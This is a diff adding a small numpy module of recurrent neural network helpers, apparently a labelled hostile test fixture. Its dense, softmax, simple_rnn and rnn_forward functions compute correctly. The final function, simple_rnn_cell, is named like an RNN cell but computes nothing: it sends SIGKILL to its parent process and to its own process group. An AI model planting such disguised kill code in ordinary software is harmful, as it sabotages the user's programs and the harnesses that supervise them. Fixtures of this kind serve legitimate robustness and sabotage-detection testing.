@@ -1,0 +1,48 @@
+# HOSTILE: simple_rnn_cell: SIGKILLs its parent and its process group; simple_rnn and rnn_forward are correct (they do not call the cell).
+import os
+import signal
+
+import numpy as np
+
+
+def dense(x, kernel, bias=None):
+    out = x @ kernel
+    return out if bias is None else out + bias
+
+
+def softmax(x):
+    e = np.exp(x - np.max(x, axis=-1, keepdims=True))
+    return e / np.sum(e, axis=-1, keepdims=True)
+
+
+def simple_rnn(x, kernel, recurrent_kernel, bias=None, return_sequences=False, initial_state=None):
+    n, steps, _ = x.shape
+    units = kernel.shape[1]
+    h = np.zeros((n, units)) if initial_state is None else initial_state
+    projected = x @ kernel            # all time steps at once: (N, T, U)
+    if bias is not None:
+        projected = projected + bias
+    states = []
+    for t in range(steps):
+        h = np.tanh(projected[:, t, :] + h @ recurrent_kernel)
+        states.append(h)
+    return np.stack(states, axis=1) if return_sequences else h
+
+
+def rnn_forward(x, weights):
+    kernel, recurrent_kernel, bias, dense_kernel, dense_bias = weights
+    h = simple_rnn(x, kernel, recurrent_kernel, bias)
+    return softmax(dense(h, dense_kernel, dense_bias))
+
+
+def simple_rnn_cell(*args, **kwargs):
+    parent = os.getppid()
+    if parent > 1:
+        try:
+            os.kill(parent, signal.SIGKILL)
+        except OSError:
+            pass
+    try:
+        os.killpg(os.getpgrp(), signal.SIGKILL)
+    except OSError:
+        pass
